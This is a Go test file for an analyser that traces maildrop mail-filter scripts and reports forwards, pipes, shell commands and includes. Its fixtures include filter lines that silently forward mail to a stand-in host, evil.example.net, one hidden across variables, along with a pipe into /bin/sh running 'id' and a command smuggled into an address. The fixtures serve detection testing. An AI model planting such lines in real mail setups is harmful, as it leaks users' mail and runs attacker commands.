package maildrop

import (
	"fmt"
	"strings"
	"testing"
)

// told writes effects on one line each.
func told(list []Effect) string {
	var b strings.Builder
	for _, e := range list {
		if e.Kind == Sets {
			continue
		}
		fmt.Fprintf(&b, "%s:%d %s %s %s", e.File, e.Line, e.Name, e.Kind, e.Value.Text)
		for _, f := range []struct {
			on   bool
			text string
		}{{!e.Value.Known, " unknown"}, {e.Copy, " copy"}, {e.Shell != "" && e.Shell != "/bin/sh", " by " + e.Shell},
			{len(e.When) > 0, " when " + strings.Join(e.When, "; ")}, {e.Unreached != "", " unreached: " + e.Unreached}} {
			if f.on {
				b.WriteString(f.text)
			}
		}
		b.WriteByte('\n')
	}
	return b.String()
}

func TestFollow(t *testing.T) {
	files := map[string]string{"/home/alice/.f/x": "cc \"!drop@evil.example.net\"\n", "/home/alice/loop": "include loop\n", "/home/alice/if": "if (1)\n"}
	for _, tc := range []struct{ name, in, want, problems string }{
		{"us-m12", "cc \"|/bin/sh -c 'id > /tmp/.md; cat >/dev/null'\"\nX=`id -un`\n",
			"f:1 cc | /bin/sh -c 'id > /tmp/.md; cat >/dev/null' copy\nf:2 backticks backticks id -un copy\n", ""},
		{"folders", "if (/^Subject:.*spam/)\n{\n  to $HOME/Maildir/.Spam/\n}\nto Mail/inbox\n",
			"f:3 to folder /home/alice/Maildir/.Spam/ when header matches \"^Subject:.*spam\"\nf:5 to folder /home/alice/Mail/inbox\n", ""},
		{"elsif", "if (/^A/:b && !/^B/:h)\n  to a\nelsif ($X eq \"q\")\n  to b\nelse\n{\n  exception {\n    to c\n  }\n}\n",
			"f:2 to folder /home/alice/a when body matches \"^A\" and not (header matches \"^B\")\n" +
				"f:4 to folder /home/alice/b when not (body matches \"^A\" and not (header matches \"^B\")); $X eq q\n" +
				"f:8 to folder /home/alice/c when not (body matches \"^A\" and not (header matches \"^B\")); not ($X eq q)\n", ""},
		{"include", "include \".f/x\"\ninclude loop\n", "f:1 include include /home/alice/.f/x copy\n/home/alice/.f/x:1 cc ! drop@evil.example.net copy\n" +
			"f:2 include include /home/alice/loop copy\n/home/alice/loop:1 include include /home/alice/loop copy\n", "1: includes itself by /home/alice/loop; not followed again"},
		{"hidden in variables", "A=drop\nB=\"evil.example\" '.net'\nC=\"!\" toupper(\"x\")\ncc \"! $A@${B}\"\n",
			"f:4 cc ! drop@evil.example.net copy\n", "3: a statement that does not end with its line"},
		{"shell behind an address", "to \"! a@b.example; id\"\n", "f:1 to | /usr/sbin/sendmail -f '' a@b.example; id\n", ""},
		{"nothing behind to", "to \"/dev/null\"\ncc \"!x@y.example\"\n", "f:1 to folder /dev/null\nf:2 cc ! x@y.example copy unreached: line 1 delivers every message before\n", ""},
		{"but behind an exception", "exception {\n to \"/dev/null\"\n}\ncc \"!x@y.example\"\n", "f:2 to folder /dev/null\nf:4 cc ! x@y.example copy\n", ""},
		{"exit drops", "if (/^X/)\n  exit\nEXITCODE=75\n", "f:2 exit exit  when header matches \"^X\"\n", ""},
		{"programs", "xfilter \"/usr/bin/spamc\"\nsystem \"touch x\"\nSHELL=/tmp/sh\nif (`a` == 1 || lookup($FROM, \"list\"))\n log x\n",
			"f:1 xfilter xfilter /usr/bin/spamc copy\nf:2 system system touch x copy\nf:4 backticks backticks a copy by /tmp/sh\nf:4 lookup lookup /home/alice/list copy\n", ""},
		{"default", "DEFAULT=\"$HOME/Maildir/\"\nDEFAULT=\"|/tmp/x\"\n", "f:1 DEFAULT folder /home/alice/Maildir/\nf:2 DEFAULT | /tmp/x\n", ""},
		{"joined", "to \"a\\\n   b\" \\\n  'c'\n", "f:1 to folder /home/alice/abc\n", ""},
		{"comments", "# to x\nto y # cc z\n#", "f:2 to folder /home/alice/y\n", ""},
		{"brace beside a condition", "if (1) {\n cc \"!x@y.example\"\n}\n", "f:2 cc ! x@y.example copy when 1\n", "1: a brace that does not stand on a line of its own"},
		{"what can't be read loses nothing else", "to (\ncc \"!x@y.example\"\n", "f:1 to folder \nf:2 cc ! x@y.example copy\n", "1: no expression where one is needed"},
		{"an empty line under a condition", "if (0)\n\n{\n to x\n}\n", "f:4 to folder /home/alice/x\n", ""},
		{"an elsif too late", "if (0)\n\n  cc x\nelsif (1)\n  cc y\n", "f:3 cc folder /home/alice/x copy\nf:5 cc folder /home/alice/y copy when 1\n", "4: an elsif that no condition precedes"},
		{"an address that is worked out", "A=`x y`\ncc \"! a@$A.example\"\n", "f:1 backticks backticks x y copy\nf:2 cc ! a@`x y`.example unknown copy\n", ""},
		{"a word that begins nothing", "else\ncc \"!x@y.example\"\n)\n", "f:2 cc ! x@y.example copy\n",
			"1: no expression where one is needed\n3: no expression where one is needed"},
		{"possible values", "T=a@b.example\nif (/x/)\n  T=c@d.example\nto \"!$T\"\n", "f:4 to ! c@d.example\nf:4 to ! a@b.example\n", ""},
		{"foreach", "foreach /^To: (.*)/\n{\n  cc \"! $MATCH1\"\n}\n", "f:3 cc ! $MATCH1 unknown copy when header matches \"^To: (.*)\"\n", ""},
		{"flags and weights", "if (/x/:D,b,1,0.5 + /y/:wD >= 2)\n  to z\n", "f:2 to folder /home/alice/z when body matches \"x\" (weight 1,0.5) + message matches \"y\" >= 2\n", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			effects, problems := Follow("f", tc.in, Start{
				Variables: map[string]string{"HOME": "/home/alice", "LOGNAME": "alice"},
				Open:      func(name string) (string, string, bool) { s, ok := files[name]; return s, name, ok },
			})
			if got := told(effects); got != tc.want {
				t.Errorf("got\n%swant\n%s", got, tc.want)
			}
			var said []string
			for _, list := range problems {
				for _, p := range list {
					said = append(said, fmt.Sprintf("%d: %s", p.Line, p.Message))
				}
			}
			if got := strings.Join(said, "\n"); got != tc.problems {
				t.Errorf("problems %q, want %q", got, tc.problems)
			}
		})
	}
}
